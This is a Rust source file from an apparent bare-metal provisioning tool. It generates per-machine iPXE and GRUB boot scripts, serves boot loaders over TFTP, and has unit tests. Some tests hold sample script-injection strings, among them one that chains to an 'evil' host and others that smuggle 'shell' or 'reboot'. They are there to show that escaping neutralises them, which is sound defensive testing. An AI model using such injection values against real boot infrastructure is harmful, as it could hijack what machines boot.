//! The per-machine iPXE script: what a machine boots is decided from its state each time it
//! asks, so there is nothing to regenerate when state changes.
//!
//! | the machine | boots |
//! |---|---|
//! | unknown (no node has its MAC), or under introspection | the discovery ramdisk |
//! | provisioning `birth`, `rebirth`, `clean` ([`Serve::ramdisk_mode`]) | the same ramdisk with `paddock.mode=<mode>` |
//! | provisioning `unknown` or `error` | the discovery ramdisk (it waits there, never writing a disk) |
//! | provisioning `healthy`, or a node never provisioned by Paddock | the local disk |
//!
//! The local disk: under BIOS `sanboot --no-describe --drive 0x80` (iPXE asks the BIOS,
//! INT 13h, to boot the first hard disk); under UEFI (`${platform}` is `efi`) there is no
//! BIOS drive to name, so iPXE chains the boot loader the birther installed on the EFI
//! system partition, found by its label (`file://PADDOCK-ESP/EFI/BOOT/BOOTX64.EFI`, iPXE's
//! EFI local file access): the firmware's own boot options may not name the disk at all
//! (OVMF kept only the network). If that fails the script `exit`s to the firmware's boot
//! manager. A BIOS `sanboot` that fails also exits, handing the choice back to the BIOS.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;

use anyhow::Context;
use paddock_birther::Serve;
use paddock_inventory::MacAddr;

use paddock_inspector::node::Node;

/// What a machine boots (pure: from its node and its provisioning record's [`Serve`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Boot {
    /// The discovery ramdisk; `mode`: the provisioning mode on its command line.
    Ramdisk {
        why: &'static str,
        mode: Option<&'static str>,
    },
    LocalDisk {
        why: &'static str,
    },
}

impl Boot {
    /// For the timeline and the log.
    pub fn what(&self) -> String {
        match self {
            Boot::Ramdisk { mode: None, .. } => "discovery ramdisk".into(),
            Boot::Ramdisk { mode: Some(m), .. } => format!("ramdisk in {m} mode"),
            Boot::LocalDisk { .. } => "local disk".into(),
        }
    }
}

/// Decides what to boot. `serve`: the node's provisioning record's [`Serve`] (`None`: no
/// record, a node Paddock never provisioned, which boots as it always did). An
/// introspection under way comes first: the agent inspects, then asks what next
/// (`/api/v1/provision/next`) and goes on in the same boot.
pub fn decide(node: Option<&Node>, serve: Option<&Serve>) -> Boot {
    let Some(n) = node else {
        return Boot::Ramdisk {
            why: "unknown",
            mode: None,
        };
    };
    if n.inspecting() {
        return Boot::Ramdisk {
            why: "under introspection",
            mode: None,
        };
    }
    match serve {
        None => Boot::LocalDisk { why: "idle" },
        Some(Serve::LocalDisk) => Boot::LocalDisk { why: "provisioned" },
        Some(Serve::InspectionRamdisk) => Boot::Ramdisk {
            why: "waiting for provisioning",
            mode: None,
        },
        Some(s) => Boot::Ramdisk {
            why: "being provisioned",
            mode: s.ramdisk_mode(),
        },
    }
}

/// Renders `/boot/{mac}.ipxe` for a machine.
pub fn script(
    mac: MacAddr,
    node: Option<&Node>,
    serve: Option<&Serve>,
    discovery: &Discovery,
    public_url: &str,
) -> String {
    let self_url = format!("{public_url}/boot/{mac}.ipxe");
    match decide(node, serve) {
        Boot::LocalDisk { why } => format!(
            "#!ipxe\n\
             echo Paddock: {who} ({mac}) is {why}: booting from the local disk\n\
             iseq ${{platform}} efi || goto bios\n\
             chain file://{esp}/EFI/BOOT/BOOTX64.EFI || exit\n\
             :bios\n\
             sanboot --no-describe --drive 0x80 || exit\n",
            who = node
                .and_then(|n| n.name.as_deref())
                .map_or("node".into(), ipxe_text),
            esp = paddock_birther::layout::ESP_LABEL,
        ),
        Boot::Ramdisk { why, mode } => match (&discovery.kernel, &discovery.initrd) {
            (Some(kernel), Some(initrd)) => {
                let args = ramdisk_args(mac, mode, discovery, public_url);
                format!(
                    "#!ipxe\n\
                     echo Paddock: {mac} is {why}: booting {what}\n\
                     kernel {kernel} initrd=initrd {args} || goto retry\n\
                     initrd --name initrd {initrd} || goto retry\n\
                     boot || goto retry\n\
                     :retry\n\
                     echo Paddock: boot failed, retrying in 10 seconds\n\
                     sleep 10\n\
                     chain --replace {self_url}\n",
                    what = ramdisk_what(mode),
                )
            }
            _ => format!(
                "#!ipxe\n\
                 echo Paddock: {mac} is {why}, but no discovery ramdisk is configured\n\
                 echo Paddock: set [boot.discovery] kernel and initrd; retrying in 30 seconds\n\
                 sleep 30\n\
                 chain --replace {self_url}\n"
            ),
        },
    }
}

fn ramdisk_what(mode: Option<&str>) -> String {
    match mode {
        Some(m) => format!("the ramdisk in {m} mode"),
        None => "the discovery ramdisk".into(),
    }
}

/// The ramdisk's kernel command line (as words) for `mac`, whichever loader boots it.
fn ramdisk_args(
    mac: MacAddr,
    mode: Option<&str>,
    discovery: &Discovery,
    public_url: &str,
) -> String {
    // BOOTIF names the NIC we booted from (pxelinux syntax: 01-<mac with dashes>). The IPA
    // callback argument lets an unmodified Ironic Python Agent ramdisk report to us too.
    let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
    let agent_url = if discovery.agent_urls.is_empty() {
        public_url.to_string()
    } else {
        discovery.agent_urls.join(",")
    };
    // IPA posts to one URL: this host's agent URL (HTTPS when TLS is on, where /v1/continue
    // is served).
    let callback = discovery
        .agent_urls
        .first()
        .map_or(public_url, String::as_str);
    let mut args = format!(
        "BOOTIF={bootif} paddock.url={agent_url} paddock.log=info{mode} ipa-inspection-callback-url={callback}/v1/continue",
        mode = mode
            .map(|m| format!(" paddock.mode={m}"))
            .unwrap_or_default(),
    );
    if !discovery.cmdline.is_empty() {
        args.push(' ');
        args.push_str(&discovery.cmdline);
    }
    args
}

/// The TFTP name of GRUB's first configuration: Debian's network GRUB (x86-64 and arm64
/// alike) looks for `$prefix/grub.cfg`, its prefix being `/grub` on the server it came from.
pub const GRUB_CFG: &str = "grub/grub.cfg";

/// The directory of the machines' own GRUB configurations (`<cpu>/<mac>.cfg`).
pub const GRUB_MACHINES: &str = "grub/paddock/";

/// The CPU a GRUB was built for, as GRUB itself names it (`${grub_cpu}`): it picks the
/// kernel, the initrd and the removable-media loader a machine boots.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GrubCpu {
    X86_64,
    Arm64,
}

impl GrubCpu {
    pub fn name(self) -> &'static str {
        match self {
            GrubCpu::X86_64 => "x86_64",
            GrubCpu::Arm64 => "arm64",
        }
    }

    fn parse(name: &str) -> Option<Self> {
        [GrubCpu::X86_64, GrubCpu::Arm64]
            .into_iter()
            .find(|c| c.name() == name)
    }

    /// The UEFI removable-media loader on the EFI system partition.
    fn removable_loader(self) -> &'static str {
        match self {
            GrubCpu::X86_64 => "BOOTX64.EFI",
            GrubCpu::Arm64 => "BOOTAA64.EFI",
        }
    }
}

/// `grub/grub.cfg`: hands over to the machine's own configuration, by GRUB's CPU and the MAC
/// it booted from, so the decision is made per machine when it asks, as the iPXE script's is.
pub fn grub_chain() -> String {
    format!(
        "set timeout=0\n\
         echo 'Paddock: asking what to boot'\n\
         configfile /{GRUB_MACHINES}${{grub_cpu}}/${{net_default_mac}}.cfg\n"
    )
}

/// A machine's own GRUB configuration: the same decision as [`script`]. GRUB loads the
/// kernel (through shim's verifier under Secure Boot); the initrd is ours. The local disk:
/// the EFI system partition's loader, or, when that fails, GRUB exits, handing the choice
/// back to the firmware's boot manager.
pub fn grub_config(
    mac: MacAddr,
    node: Option<&Node>,
    serve: Option<&Serve>,
    discovery: &Discovery,
    public_url: &str,
    cpu: GrubCpu,
    kernel: &GrubKernel,
) -> String {
    let again = format!("configfile /{GRUB_CFG}\n");
    match decide(node, serve) {
        // As the iPXE script: the loader the birther installed on the EFI system partition,
        // found by its label (shim verifies it); else the firmware's boot manager decides.
        // The partition becomes GRUB's root: chainloader hands the loaded image the root's
        // device, and shim looks for GRUB beside itself on that device.
        Boot::LocalDisk { why } => format!(
            "echo 'Paddock: {mac} is {why}: booting from the local disk'\n\
             if search --no-floppy --label {esp} --set=root; then\n\
             \x20 chainloader /EFI/BOOT/{loader}\n\
             \x20 boot\n\
             fi\n\
             exit\n",
            esp = paddock_birther::layout::ESP_LABEL,
            loader = cpu.removable_loader(),
        ),
        Boot::Ramdisk { why, mode } if discovery.kernel.is_some() && discovery.initrd.is_some() => {
            let args: Vec<String> = ramdisk_args(mac, mode, discovery, public_url)
                .split_whitespace()
                .chain(kernel.cmdline.split_whitespace())
                .map(grub_word)
                .collect();
            format!(
                "echo 'Paddock: {mac} is {why}: booting {what}'\n\
                 linux {linux} {args}\n\
                 initrd {initrd}\n\
                 boot\n\
                 echo 'Paddock: boot failed, retrying in 10 seconds'\n\
                 sleep 10\n\
                 {again}",
                what = ramdisk_what(mode),
                linux = grub_word(&format!("/{}", kernel.kernel)),
                initrd = grub_word(&format!("/{}", kernel.initrd)),
                args = args.join(" "),
            )
        }
        Boot::Ramdisk { why, .. } => format!(
            "echo 'Paddock: {mac} is {why}, but no discovery ramdisk is configured'\n\
             sleep 30\n\
             {again}"
        ),
    }
}

/// One word of a GRUB script, whatever it holds: single-quoted (nothing expands inside), a
/// quote in it closed, escaped and reopened.
pub fn grub_word(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// What GRUB loads on machines of one CPU: the kernel and initrd as TFTP names (relative
/// to the assets directory, which the TFTP server serves last), and words added to the
/// ramdisk's command line (the arm64 serial console, say).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GrubKernel {
    pub kernel: String,
    pub initrd: String,
    pub cmdline: String,
}

/// The machines booted through GRUB over TFTP: x64 machines that enforce Secure Boot (shim
/// as `shimx64.efi`, the signed GRUB beside it as `grubx64.efi`, the name shim loads) and
/// arm64 machines (Debian's signed network GRUB as `grubaa64.efi`). Each loader is served
/// under its TFTP name, with [`GRUB_CFG`] and each machine's configuration.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct GrubBoot {
    /// TFTP name → the file served under it.
    pub loaders: Vec<(String, PathBuf)>,
    pub x86_64: Option<GrubKernel>,
    pub arm64: Option<GrubKernel>,
}

impl GrubBoot {
    pub fn kernel(&self, cpu: GrubCpu) -> Option<&GrubKernel> {
        match cpu {
            GrubCpu::X86_64 => self.x86_64.as_ref(),
            GrubCpu::Arm64 => self.arm64.as_ref(),
        }
    }
}

/// Text that is safe anywhere in an iPXE script line: RFC 3986 unreserved characters pass,
/// every other byte is percent-encoded, so a newline, `${…}` (setting expansion), `#`, `||`,
/// `&&`, `:` or a space can never become script syntax. Names are validated on the way in;
/// this keeps a script safe even for text that was stored before that.
pub fn ipxe_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The script served to an iPXE that asks for `autoexec.ipxe` or a generic script.
pub fn chain_script(public_url: &str) -> String {
    format!("#!ipxe\nchain {public_url}/boot/${{net0/mac}}.ipxe\n")
}

#[derive(Clone, Debug)]
pub struct TftpConfig {
    pub listen: Vec<SocketAddr>,
    pub server: paddock_tftp::TftpConfig,
}

/// The discovery ramdisk entry of the boot script.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Discovery {
    pub kernel: Option<String>,
    pub initrd: Option<String>,
    pub cmdline: String,
    /// `paddock.url` for the agent when there are several hosts (this one first); empty:
    /// the public URL alone.
    pub agent_urls: Vec<String>,
}

/// Serves the boot loaders over TFTP on each configured address, with `autoexec.ipxe`
/// chaining to the HTTP boot script; and, with `grub`, GRUB's loaders and first
/// configuration, each machine's own made by the maker when asked.
pub fn start_tftp(
    tftp: Option<&TftpConfig>,
    public_url: &str,
    grub: Option<(&GrubBoot, Arc<dyn paddock_tftp::Maker>)>,
) -> anyhow::Result<()> {
    let Some(t) = tftp else {
        return Ok(());
    };
    let mem = match grub {
        Some((g, maker)) => {
            let mem = paddock_tftp::MemFiles::with_maker(maker);
            for (name, path) in &g.loaders {
                let bytes = std::fs::read(path)
                    .with_context(|| format!("boot loader {name}: {}", path.display()))?;
                mem.insert(name, bytes);
            }
            mem.insert(GRUB_CFG, grub_chain().into_bytes());
            mem
        }
        None => paddock_tftp::MemFiles::default(),
    };
    mem.insert("autoexec.ipxe", chain_script(public_url).into_bytes());
    for addr in &t.listen {
        paddock_tftp::spawn(*addr, t.server.clone(), mem.clone())?;
        tracing::info!(%addr, "tftp: listening");
    }
    Ok(())
}

/// The CPU and MAC in a machine's GRUB configuration name (`grub/paddock/<cpu>/<mac>.cfg`).
pub fn grub_config_name(name: &str) -> Option<(GrubCpu, MacAddr)> {
    let (cpu, file) = name.strip_prefix(GRUB_MACHINES)?.split_once('/')?;
    Some((
        GrubCpu::parse(cpu)?,
        file.strip_suffix(".cfg")?.parse().ok()?,
    ))
}

/// How long the same boot-script row for a MAC is not recorded again.
pub const REPEAT_WINDOW: std::time::Duration = std::time::Duration::from_secs(30);
/// Entries kept before the stale ones are dropped (rows are kept only for known nodes and
/// leased MACs, so this is not reached in use).
const RECENT_ROWS: usize = 65_536;

/// The boot-script rows recorded lately, by MAC and row. A machine fetches its script once a
/// boot (which takes longer than [`REPEAT_WINDOW`]); the same row again within the window is
/// a script fetched in a loop, by the machine's retry or by anyone, and is not recorded: a
/// machine under introspection keeps its whole timeline, which would grow without bound.
/// Each row is remembered, not only the last, so that two fetches in turn (the iPXE script
/// and the GRUB configuration) are not each new.
#[derive(Default)]
pub struct RecentRows(
    std::sync::Mutex<std::collections::HashMap<(MacAddr, String), std::time::Instant>>,
);

impl RecentRows {
    /// Whether `row` for `mac` is to be recorded at `now` (and, if so, remembered).
    pub fn fresh(&self, mac: MacAddr, row: &str, now: std::time::Instant) -> bool {
        let mut seen = self.0.lock().unwrap_or_else(|p| p.into_inner());
        let recent = |at: &std::time::Instant| now.saturating_duration_since(*at) < REPEAT_WINDOW;
        let key = (mac, row.to_string());
        if seen.get(&key).is_some_and(recent) {
            return false;
        }
        if seen.len() >= RECENT_ROWS {
            seen.retain(|_, at| recent(at));
        }
        seen.insert(key, now);
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_repeated_boot_script_row_is_recorded_once_a_window() {
        let rows = RecentRows::default();
        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
        let other: MacAddr = "52:54:00:00:00:02".parse().unwrap();
        let t = std::time::Instant::now();
        assert!(rows.fresh(mac, "iPXE script served: local disk", t));
        assert!(!rows.fresh(mac, "iPXE script served: local disk", t + REPEAT_WINDOW / 2));
        assert!(
            rows.fresh(other, "iPXE script served: local disk", t),
            "per MAC"
        );
        assert!(
            rows.fresh(
                mac,
                "iPXE script served: discovery ramdisk",
                t + REPEAT_WINDOW / 2
            ),
            "another decision is recorded at once"
        );
        // Two rows in turn (the iPXE script, the GRUB configuration): each once a window.
        assert!(rows.fresh(mac, "GRUB configuration served", t));
        assert!(!rows.fresh(
            mac,
            "iPXE script served: discovery ramdisk",
            t + REPEAT_WINDOW / 2
        ));
        assert!(!rows.fresh(mac, "GRUB configuration served", t + REPEAT_WINDOW / 2));
        let later = t + REPEAT_WINDOW / 2 + REPEAT_WINDOW;
        assert!(rows.fresh(mac, "iPXE script served: discovery ramdisk", later));
    }

    const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0xab, 0, 1]);

    fn discovery() -> Discovery {
        Discovery {
            kernel: Some("http://p/k".into()),
            initrd: Some("http://p/i".into()),
            cmdline: "console=ttyS0".into(),
            agent_urls: Vec::new(),
        }
    }

    #[test]
    fn several_hosts_are_all_given_to_the_agent() {
        let d = Discovery {
            agent_urls: vec!["http://a".into(), "http://b".into()],
            ..discovery()
        };
        let s = script(MAC, None, None, &d, "http://a");
        assert!(s.contains(" paddock.url=http://a,http://b "), "{s}");
        assert!(
            s.contains("ipa-inspection-callback-url=http://a/v1/continue"),
            "{s}"
        );
        // With TLS the agent's URLs are the HTTPS ones, and so is IPA's callback.
        let tls = Discovery {
            agent_urls: vec!["https://a:8443".into()],
            ..discovery()
        };
        let s = script(MAC, None, None, &tls, "http://a");
        assert!(
            s.contains("ipa-inspection-callback-url=https://a:8443/v1/continue"),
            "{s}"
        );
    }

    #[test]
    fn unknown_machines_boot_the_discovery_ramdisk() {
        let s = script(MAC, None, None, &discovery(), "http://p");
        assert!(s.starts_with("#!ipxe\n"));
        assert!(s.contains("kernel http://p/k initrd=initrd BOOTIF=01-52-54-00-ab-00-01 paddock.url=http://p paddock.log=info ipa-inspection-callback-url=http://p/v1/continue console=ttyS0"), "{s}");
        assert!(s.contains("initrd --name initrd http://p/i"));
        assert!(s.contains("is unknown"));
    }

    /// An unknown machine's GRUB configuration: it boots the discovery ramdisk.
    fn grub_unknown(cpu: GrubCpu, kernel: &GrubKernel) -> String {
        grub_config(MAC, None, None, &discovery(), "http://p", cpu, kernel)
    }

    /// A known, idle machine's GRUB configuration: it boots its local disk.
    fn grub_local(cpu: GrubCpu, kernel: &GrubKernel) -> String {
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.macs = vec![MAC];
        grub_config(
            MAC,
            Some(&node),
            None,
            &discovery(),
            "http://p",
            cpu,
            kernel,
        )
    }

    fn x86_kernel() -> GrubKernel {
        GrubKernel {
            kernel: "vmlinuz".into(),
            initrd: "initrd.img".into(),
            cmdline: String::new(),
        }
    }

    /// The signed chain's per-machine configuration makes the iPXE script's decision: the
    /// ramdisk with the same command line (each word quoted), the local disk by exiting to
    /// the firmware, and a retry when no ramdisk is configured.
    #[test]
    fn grub_configurations_decide_as_the_ipxe_script() {
        let x86 = GrubCpu::X86_64;
        let c = grub_unknown(x86, &x86_kernel());
        assert!(
            c.contains("is unknown: booting the discovery ramdisk"),
            "{c}"
        );
        assert!(
            c.contains("linux '/vmlinuz' 'BOOTIF=01-52-54-00-ab-00-01' 'paddock.url=http://p' 'paddock.log=info' 'ipa-inspection-callback-url=http://p/v1/continue' 'console=ttyS0'\ninitrd '/initrd.img'\nboot\n"),
            "{c}"
        );
        assert!(c.ends_with("sleep 10\nconfigfile /grub/grub.cfg\n"), "{c}");
        let c = grub_local(x86, &x86_kernel());
        assert!(
            c.contains("search --no-floppy --label PADDOCK-ESP --set=root; then\n  chainloader /EFI/BOOT/BOOTX64.EFI\n  boot\nfi\nexit\n"),
            "{c}"
        );
        assert!(!c.contains("linux"), "{c}");
        let none = Discovery {
            kernel: None,
            ..discovery()
        };
        let c = grub_config(MAC, None, None, &none, "http://p", x86, &x86_kernel());
        assert!(c.contains("no discovery ramdisk is configured"), "{c}");
        assert!(c.ends_with("configfile /grub/grub.cfg\n"), "{c}");
        // The machine's own file is found by GRUB's CPU and the MAC it booted from.
        assert!(
            grub_chain().contains("configfile /grub/paddock/${grub_cpu}/${net_default_mac}.cfg")
        );
        assert_eq!(
            grub_config_name("grub/paddock/x86_64/52:54:00:ab:00:01.cfg"),
            Some((x86, MAC))
        );
        assert_eq!(
            grub_config_name("grub/paddock/arm64/52:54:00:ab:00:01.cfg"),
            Some((GrubCpu::Arm64, MAC))
        );
        for not in [
            "grub/grub.cfg",
            "grub/paddock/x86_64/x.cfg",
            "grub/paddock/52:54:00:ab:00:01.cfg",
            "grub/paddock/riscv64/52:54:00:ab:00:01.cfg",
            "grub/paddock/x86_64/52:54:00:ab:00:01",
        ] {
            assert_eq!(grub_config_name(not), None, "{not}");
        }
    }

    /// An arm64 machine gets the arm64 kernel and initrd, its serial console on the command
    /// line, and the arm64 removable-media loader for the local disk.
    #[test]
    fn arm64_machines_get_their_own_kernel_and_loader() {
        let arm = GrubKernel {
            kernel: "aarch64/vmlinuz".into(),
            initrd: "aarch64/initrd.img".into(),
            cmdline: "console=ttyAMA0".into(),
        };
        let c = grub_unknown(GrubCpu::Arm64, &arm);
        assert!(
            c.contains("linux '/aarch64/vmlinuz' 'BOOTIF=01-52-54-00-ab-00-01' "),
            "{c}"
        );
        assert!(
            c.contains(" 'console=ttyS0' 'console=ttyAMA0'\ninitrd '/aarch64/initrd.img'\n"),
            "{c}"
        );
        let c = grub_local(GrubCpu::Arm64, &arm);
        assert!(c.contains("chainloader /EFI/BOOT/BOOTAA64.EFI"), "{c}");
    }

    /// A GRUB word is single-quoted: `$`, `;`, a newline or a quote in operator text or a
    /// token stays one argument and never becomes GRUB syntax.
    #[test]
    fn grub_words_never_become_script_syntax() {
        assert_eq!(grub_word("a=b"), "'a=b'");
        assert_eq!(grub_word("it's"), "'it'\\''s'");
        let d = Discovery {
            cmdline: "x=${prefix};reboot x='\nreboot".into(),
            ..discovery()
        };
        let c = grub_config(
            MAC,
            None,
            None,
            &d,
            "http://p",
            GrubCpu::X86_64,
            &x86_kernel(),
        );
        let linux = c.lines().find(|l| l.starts_with("linux ")).unwrap();
        assert!(linux.contains(" 'x=${prefix};reboot' 'x='\\''"), "{c}");
        // The newline split the word (the command line is words); it cannot end the line.
        assert!(!c.lines().any(|l| l.trim() == "reboot"), "{c}");
    }

    #[test]
    fn untrusted_text_never_becomes_script_syntax() {
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        for evil in [
            "r1\nshell\n#",
            "r1${net0/mac}",
            "x || shell",
            "a && chain http://evil/x",
            ":retry",
            "#!ipxe",
        ] {
            node.name = Some(evil.into());
            let s = script(MAC, Some(&node), None, &discovery(), "http://p");
            let lines: Vec<&str> = s.lines().collect();
            assert_eq!(lines.len(), 6, "{evil:?} added lines: {s}");
            assert!(!lines[1].contains("${") && !lines[1].contains("||"), "{s}");
            assert!(!lines[1].contains(" && ") && !lines[1].contains('#'), "{s}");
            assert!(lines[1].starts_with("echo Paddock: "), "{s}");
        }
        assert_eq!(ipxe_text("r1\n${x} #|"), "r1%0A%24%7Bx%7D%20%23%7C");
    }

    #[test]
    fn idle_machines_boot_locally() {
        use paddock_inspector::node::Introspection;
        use paddock_inspector::state::State;
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.name = Some("rack1-u7".into());
        node.macs = vec![MAC];
        let s = script(MAC, Some(&node), None, &discovery(), "http://p");
        assert!(
            s.contains("sanboot --no-describe --drive 0x80 || exit"),
            "{s}"
        );
        assert!(!s.contains("kernel"));
        for (state, ramdisk) in [
            (State::Waiting, true),
            (State::Enrolling, true),
            (State::Finished, false),
            (State::Error, false),
        ] {
            node.introspection = Some(Introspection {
                state,
                started_at: Some(0),
                finished_at: None,
                error: None,
                manage_boot: true,
                set_image: None,
            });
            let s = script(MAC, Some(&node), None, &discovery(), "http://p");
            assert_eq!(s.contains("kernel http://p/k"), ramdisk, "{state:?}: {s}");
        }
    }

    /// The provisioning states: the ramdisk in their mode, the local disk, or waiting in the
    /// discovery ramdisk; an introspection under way comes first.
    #[test]
    fn provisioning_states_choose_the_boot() {
        use paddock_inspector::node::Introspection;
        use paddock_inspector::state::State;
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.name = Some("r1".into());
        let image = || "debian/a".to_string();
        let rows = [
            (Some(Serve::BirthRamdisk { image: image() }), Some("birth")),
            (
                Some(Serve::RebirthRamdisk { image: image() }),
                Some("rebirth"),
            ),
            (Some(Serve::CleanRamdisk), Some("clean")),
            (Some(Serve::InspectionRamdisk), None),
        ];
        for (serve, mode) in &rows {
            let s = script(MAC, Some(&node), serve.as_ref(), &discovery(), "http://p");
            assert!(s.contains("kernel http://p/k "), "{serve:?}: {s}");
            let arg = mode.map(|m| format!(" paddock.mode={m} "));
            assert_eq!(
                arg.as_ref().is_some_and(|a| s.contains(a.as_str())),
                mode.is_some(),
                "{serve:?}: {s}"
            );
            assert_eq!(s.contains("paddock.mode="), mode.is_some(), "{s}");
        }
        let local = script(
            MAC,
            Some(&node),
            Some(&Serve::LocalDisk),
            &discovery(),
            "http://p",
        );
        assert_eq!(
            local,
            "#!ipxe\n\
             echo Paddock: r1 (52:54:00:ab:00:01) is provisioned: booting from the local disk\n\
             iseq ${platform} efi || goto bios\n\
             chain file://PADDOCK-ESP/EFI/BOOT/BOOTX64.EFI || exit\n\
             :bios\n\
             sanboot --no-describe --drive 0x80 || exit\n"
        );
        // Under introspection: the plain discovery ramdisk whatever the record says.
        node.introspection = Some(Introspection {
            state: State::Waiting,
            started_at: Some(0),
            finished_at: None,
            error: None,
            manage_boot: true,
            set_image: None,
        });
        for serve in [Some(Serve::LocalDisk), Some(Serve::CleanRamdisk), None] {
            let b = decide(Some(&node), serve.as_ref());
            assert_eq!(
                b,
                Boot::Ramdisk {
                    why: "under introspection",
                    mode: None
                }
            );
        }
        // An unknown machine: the discovery ramdisk.
        assert_eq!(decide(None, None).what(), "discovery ramdisk");
        assert_eq!(
            decide(
                Some(&Node::new(uuid::Uuid::nil(), 0)),
                Some(&Serve::CleanRamdisk)
            )
            .what(),
            "ramdisk in clean mode"
        );
    }

    #[test]
    fn missing_ramdisk_is_explained_and_retried() {
        let s = script(MAC, None, None, &Discovery::default(), "http://p");
        assert!(s.contains("no discovery ramdisk is configured"));
        assert!(s.contains("chain --replace http://p/boot/52:54:00:ab:00:01.ipxe"));
    }
}
